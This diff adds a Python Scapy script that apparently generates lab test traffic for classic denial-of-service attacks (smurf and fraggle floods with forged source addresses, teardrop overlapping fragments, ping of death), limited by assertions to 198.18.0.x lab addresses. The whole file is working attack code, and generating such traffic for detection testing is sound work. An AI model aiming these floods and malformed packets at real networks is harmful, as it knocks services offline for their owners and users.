@@ -1,0 +1,41 @@
+#!/usr/bin/python3
+"""Classic denial-of-service attacks (the DARPA 1998/99 evaluations' names), sent with Scapy
+from lab/classic.sh's attacker namespace, only to lab addresses (checked).
+
+    classic.py smurf|fraggle|teardrop|pod IFACE
+    environment: DST (the broadcast address, default 198.18.0.255), RATE (a second, 250),
+    COUNT (400), PORT (fraggle's, 7: echo; 19: chargen)
+"""
+import sys, time
+from scapy.all import Ether, IP, ICMP, UDP, TCP, Raw, sendp, fragment, conf
+conf.verb = 0
+import os
+V, B = "198.18.0.10", os.environ.get("DST", "198.18.0.255")
+RATE, COUNT, PORT = float(os.environ.get("RATE", "250")), int(os.environ.get("COUNT", "400")), int(os.environ.get("PORT", "7"))
+kind, iface = sys.argv[1], sys.argv[2]
+assert V.startswith("198.18.0."), V
+assert B.startswith("198.18.0.") or B == "255.255.255.255", B
+bc = Ether(dst="ff:ff:ff:ff:ff:ff")
+if kind == "smurf":      # echo requests to the broadcast address, source forged as the victim
+    for i in range(COUNT):
+        sendp(bc / IP(src=V, dst=B) / ICMP(id=0x4242, seq=i) / Raw(b"x" * 56), iface=iface)
+        time.sleep(1 / RATE)
+elif kind == "fraggle":  # UDP echo requests to the broadcast address, source forged as the victim
+    for i in range(COUNT):
+        sendp(bc / IP(src=V, dst=B) / UDP(sport=7000 + i % 50, dport=PORT) / Raw(b"y" * 64), iface=iface)
+        time.sleep(1 / RATE)
+elif kind == "teardrop":  # overlapping UDP fragments (the second starts inside the first)
+    for i in range(150):
+        a = IP(dst=V, id=1000 + i, flags="MF", frag=0, proto=17) / Raw(b"A" * 36)
+        b = IP(dst=V, id=1000 + i, frag=3, proto=17) / Raw(b"B" * 4)
+        sendp(Ether() / a, iface=iface); sendp(Ether() / b, iface=iface)
+        time.sleep(0.01)
+elif kind == "pod":       # ping of death: fragments of an echo request longer than 65,535 bytes
+    for i in range(12):
+        frags = fragment(IP(dst=V, id=2000 + i) / ICMP() / Raw(b"P" * 65400), fragsize=1480)
+        last = IP(dst=V, id=2000 + i, frag=65520 // 8, proto=1) / Raw(b"Q" * 200)
+        for f in frags + [last]:
+            sendp(Ether() / f, iface=iface)
+        time.sleep(0.2)
+else:
+    sys.exit("unknown kind")
